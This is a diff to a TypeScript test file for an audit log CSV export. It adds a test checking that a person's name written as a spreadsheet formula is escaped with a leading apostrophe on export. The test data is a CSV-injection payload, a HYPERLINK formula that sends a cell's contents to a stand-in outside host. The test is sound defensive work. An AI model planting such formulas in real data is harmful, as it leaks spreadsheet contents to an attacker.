@@ -6,8 +6,8 @@ import type { SessionAnswer } from '../contract/people/people'
 import { sendCommand } from '../operator/socket'
 import { withDatabase } from '../store/postgres/shared-store'
 import { CALLBACK } from '../testing/examples'
-import { parseCsv } from '../testing/parse-csv'
-import { addPerson, OWN_PASSWORD } from '../testing/people'
+import { parseCsv, parseCsvRecords } from '../testing/parse-csv'
+import { addPerson, invite, OWN_PASSWORD } from '../testing/people'
 import { ENQUIRY, startTestService, stoppedClock, TEST_PASSWORD, type TestService } from '../testing/start-test-service'
 import { startChild } from '../testing/store-child'
 import { isOnFiles, onFiles, temporaryFolder } from '../testing/store-fixtures'
@@ -197,6 +197,11 @@ describe('the audit', () => {
     expect((await entriesOf(service, 'what=audit_exported', again)).map(inWords)).toEqual([
       'shared audit_exported what=record_changed',
     ])
+
+    const formula = '=HYPERLINK("https://spreadsheet.example/?"&A1,"Open")'
+    await invite(service, { email: 'formula@example.org', name: formula, role: 'reader' }, again)
+    const people = parseCsvRecords(await (await service.get('/api/admin/audit.csv?what=person_invited', again)).text())
+    expect(people.map(({ person }) => person)).toContain(`'${formula}`)
     expect(login).not.toEqual(again)
   })
 
